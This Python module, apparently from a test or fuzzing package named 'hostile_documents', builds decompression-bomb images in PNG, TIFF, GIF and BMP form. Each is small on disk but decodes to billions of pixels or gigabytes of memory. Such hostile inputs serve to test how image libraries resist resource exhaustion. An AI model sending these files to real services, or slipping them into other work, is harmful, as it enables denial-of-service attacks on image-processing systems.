"""Images that are small on disk, and have billions of pixels."""

from __future__ import annotations

import struct
import zlib

from hostile_documents.packing import MIB, zlibbed


def png_bomb() -> bytes:
    """100,000 by 100,000 pixels of one bit: 1.25 GB of scan lines, 10 GB as Pillow holds them."""
    side = 100_000
    row = 1 + side // 8
    zeros = -(-side * row // MIB) * MIB
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlibbed(b"", zeros)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def tiff_bomb() -> bytes:
    """100,000 by 131,072 grey pixels in 1,000 strips, all of which are the same 13 kB."""
    width, strips, rows = 131_072, 1000, 96
    strip = zlibbed(b"", width * rows)
    long, short = 4, 3
    offsets = struct.pack(f"<{strips}I", *[8] * strips)
    counts = struct.pack(f"<{strips}I", *[len(strip)] * strips)
    data = strip + offsets + counts
    deflate, black_is_zero = 8, 1
    entries = [
        (256, long, 1, width),
        (257, long, 1, strips * rows),
        (258, short, 1, 8),
        (259, short, 1, deflate),
        (262, short, 1, black_is_zero),
        (273, long, strips, 8 + len(strip)),
        (277, short, 1, 1),
        (278, long, 1, rows),
        (279, long, strips, 8 + len(strip) + len(offsets)),
    ]
    return _tiff(entries, data)


def _tiff(entries: list[tuple[int, int, int, int]], data: bytes) -> bytes:
    """A little-endian TIFF of one page; `data` starts right behind the header."""
    directory = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    start = 8 + len(data)
    return struct.pack("<4sI", b"II*\x00", start) + data + struct.pack("<H", len(entries)) + directory + bytes(4)


def gif_canvas_bomb() -> bytes:
    """A canvas of 65,535 by 65,535 for pictures of one pixel each."""
    return _gif(65_535, frames=2)


def gif_frames_bomb() -> bytes:
    """A great many frames which change one pixel of a large canvas each."""
    return _gif(4000, frames=2000)


def _gif(side: int, *, frames: int) -> bytes:
    palette = bytes((0, 0, 0, 255, 255, 255, 255, 0, 0, 0, 0, 255))
    header = b"GIF89a" + struct.pack("<HHBBB", side, side, 0b1000_0001, 0, 0) + palette
    pictures = []
    for n in range(frames):
        control = b"\x21\xf9\x04\x04\x01\x00\x00\x00"
        place = b"\x2c" + struct.pack("<HHHHB", n % side, n // side % side, 1, 1, 0)
        pixel = b"\x02\x02" + (b"\x44\x01" if n % 2 else b"\x4c\x01") + b"\x00"
        pictures.append(control + place + pixel)
    return header + b"".join(pictures) + b"\x3b"


def bmp_bomb() -> bytes:
    """60,000 by 60,000 pixels, all of which a run-length code skips, 255 rows at a time."""
    side, rle8 = 60_000, 1
    code = b"\x00\x02\x00\xff" * (side // 255) + b"\x00\x01"
    info = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, rle8, len(code), 0, 0, 2, 0)
    start = 14 + len(info) + 8
    return struct.pack("<2sIHHI", b"BM", start + len(code), 0, 0, start) + info + bytes(8) + code
